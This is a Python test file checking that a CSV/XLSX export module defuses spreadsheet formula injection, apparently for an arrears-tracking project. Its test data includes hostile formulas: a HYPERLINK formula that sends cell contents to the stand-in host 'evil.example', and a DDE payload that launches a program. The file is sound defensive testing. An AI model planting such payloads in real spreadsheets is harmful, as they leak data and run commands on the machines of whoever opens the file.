"""No cell we write runs as a formula when the file is opened in a spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from arrears.core.spreadsheets import DictWriter, csv_writer, safe_text, starts_a_formula, write_table

FORMULAS = [
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u3000＝1+1",  # a full-width space and equals sign, as a Chinese input method types them
    "-",
    "+86 138 0013 8000",  # not a plain number: it could be read as an expression
]
PLAIN = ["-12.50", "+8613800138000", "1234", "张三", "a=b", "12-34", "", ".5", "-0.5"]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_starts_a_formula_gets_a_leading_apostrophe(text):
    assert starts_a_formula(text)
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize("text", PLAIN)
def test_plain_numbers_and_ordinary_text_are_left_as_they_are(text):
    assert not starts_a_formula(text)
    assert safe_text(text) == text


@given(st.text(max_size=30))
def test_no_written_text_starts_a_formula(text):
    written = safe_text(text)
    assert not starts_a_formula(written)
    shown = written.removeprefix("'") if written != text else written
    assert "\x00" not in shown and len(shown) >= len(text)


def test_control_characters_are_escaped_so_the_cell_shows_them():
    assert safe_text("a\x00b\x1fc") == "a\\x00b\\x1fc"
    assert safe_text("line 1\nline 2") == "line 1\nline 2"


def test_a_csv_keeps_numbers_and_neutralises_text():
    buffer = io.StringIO()
    writer = csv_writer(buffer)
    writer.writerow(["=1+1", -5, Decimal("-12.50"), "-12.50", date(2026, 1, 2), None, "@x"])
    row = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert row == ["'=1+1", "-5", "-12.50", "-12.50", "2026-01-02", "", "'@x"]


def test_a_dict_writer_neutralises_the_header_and_the_cells():
    buffer = io.StringIO()
    writer = DictWriter(buffer, fieldnames=["=name", "amount"])
    writer.writeheader()
    writer.writerow({"=name": "+1+1", "amount": Decimal("-3.00")})
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["'=name", "amount"], ["'+1+1", "-3.00"]]


def test_an_xlsx_has_no_formula_and_negative_amounts_stay_numbers(tmp_path):
    path = tmp_path / "out.xlsx"
    write_table(
        path,
        ["value", "amount", "when"],
        [["=1+1", Decimal("-12.50"), date(2026, 1, 2)], ["nul\x00here", -3, None], ["-12.50", 0.5, "@x"]],
    )
    sheet = load_workbook(path).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert sheet["A2"].value == "'=1+1" and sheet["A3"].value == "nul\\x00here"
    assert (sheet["B2"].data_type, sheet["B2"].value) == ("n", -12.5)
    assert (sheet["B3"].value, sheet["A4"].value, sheet["C4"].value) == (-3, "-12.50", "'@x")
    assert sheet["C2"].is_date


def test_a_csv_file_starts_with_a_byte_order_mark_for_excel(tmp_path):
    path = tmp_path / "out.csv"
    write_table(path, ["名字"], [["=1+1"]])
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.decode("utf-8-sig").splitlines() == ["名字", "'=1+1"]
